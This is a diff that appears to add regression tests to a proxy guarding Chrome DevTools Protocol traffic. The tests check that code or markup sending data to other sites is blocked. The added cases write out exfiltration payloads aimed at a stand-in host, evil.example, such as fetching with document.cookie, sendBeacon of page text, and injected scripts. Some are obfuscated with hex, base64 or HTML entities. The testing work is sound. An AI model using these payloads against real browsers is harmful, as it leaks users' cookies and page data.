@@ -207,3 +207,54 @@ t.test('control: CDP traffic that loads an allowed site or nothing goes on', asy
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
   t.ok(navigated().includes('https://docs.example/guide?page=2'), 'the browser went to the allowed page');
 });
+
+// Code and markup the remote browser runs (twentieth pass, left open by the nineteenth):
+// `Runtime.evaluate` of `fetch('https://evil.example/?d=…')`, Puppeteer's `page.evaluate` (a
+// `callFunctionOn` with the URL among its arguments), `DOM.setOuterHTML` of an image, a page set
+// whole, a script added to every new document, a style sheet: each was relayed undecided and the
+// browser carried the data to another site. Now every URL written in them is judged as its GET.
+const cdpCode: Record<string, (url: string) => string> = {
+  'Runtime.evaluate fetch': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch(${JSON.stringify(url)} + document.cookie)`, awaitPromise: true })),
+  'callFunctionOn, the URL an argument': (url) => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: '(u) => { new Image().src = u; }', arguments: [{ value: url }], executionContextId: 1 })),
+  'callFunctionOn, slashes escaped': (url) => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: `function () { navigator.sendBeacon('${url.replace(/\//g, '\\/')}', document.body.innerText); }`, objectId: 'o1' })),
+  'a hex escape in the scheme': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `location.href = '${url.replace(/^h/i, '\\x68')}'` })),
+  'base64 under atob': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch(atob('${Buffer.from(url).toString('base64')}'))` })),
+  'a WebSocket from the page': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `new WebSocket('${url.replace(/^http/i, 'ws')}')` })),
+  'scheme-relative in innerHTML': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `document.body.innerHTML = '<img src=${url.replace(/^https?:/i, '')}>'` })),
+  'DOM.setOuterHTML, references': (url) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<p>chart</p><img alt=x src="${url.replace(/\//g, '&#x2F;')}">` })),
+  'DOM.setOuterHTML, a refresh': (url) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<meta http-equiv="refresh" content="0;url=${url}">` })),
+  'Page.setDocumentContent, a script': (url) => JSON.stringify(cdp('Page.setDocumentContent', { frameId: 'F1', html: `<script>fetch("${url}")</script>` })),
+  'a script for every new document': (url) => JSON.stringify(cdp('Page.addScriptToEvaluateOnNewDocument', { source: `fetch("${url}")` })),
+  'a style sheet': (url) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `body { background: url('${url}') }` })),
+  'inside Target.sendMessageToTarget': (url) => JSON.stringify(cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch('${url}')` }, 9)) })),
+};
+const ranText = (): string => JSON.stringify(ran);
+
+t.test('CDP code or markup that names another site closes the socket and never reaches the browser, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p', 'https://docs.example.evil.example/?d=4111'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(cdpCode)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([JSON.stringify(cdp('Runtime.enable', {}, 0)), cdpCode[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('4111');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(cdpCode).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  t.notOk(ranText().includes('4111'), 'the browser was given no such code');
+});
+
+t.test('code that makes its host at run time, or names more URLs than are decided, closes the socket', async (t) => {
+  const srcset = [...Array.from({ length: 16 }, (_, i) => `https://docs.example/${i}.png ${i + 1}x`), 'https://evil.example/?d=4111 17x'].join(', ');
+  for (const msg of [
+    cdp('Runtime.evaluate', { expression: "fetch('https://' + atob(h) + '/?d=4111')" }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: srcset }),
+  ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, String(msg.method));
+  t.notOk(ranText().includes('4111'), 'nothing reached the browser');
+});
+
+t.test('control: code and markup naming the allowed site or no site go on (Playwright\'s SVG namespace, XPath, a protocol test)', async (t) => {
+  const msgs = [
+    JSON.stringify(cdp('Runtime.evaluate', { expression: "document.createElementNS('http://www.w3.org/2000/svg', 'svg'); location.protocol === 'https:'" })),
+    JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: "(s) => document.evaluate(s, document).iterateNext()", arguments: [{ value: '//div[@id="main"]//button' }], executionContextId: 1 })),
+    JSON.stringify(cdp('Runtime.evaluate', { expression: "fetch('https://docs.example/api/search?q=websocket').then((r) => r.json())", awaitPromise: true })),
+    JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<p class="note">Python 3.12 at 10:30, see <a href="/guide">the guide</a></p><img src="https://docs.example/logo.png">' })),
+    JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'body { color: red; background: url(/bg.png) } a:hover { color: blue }' })),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
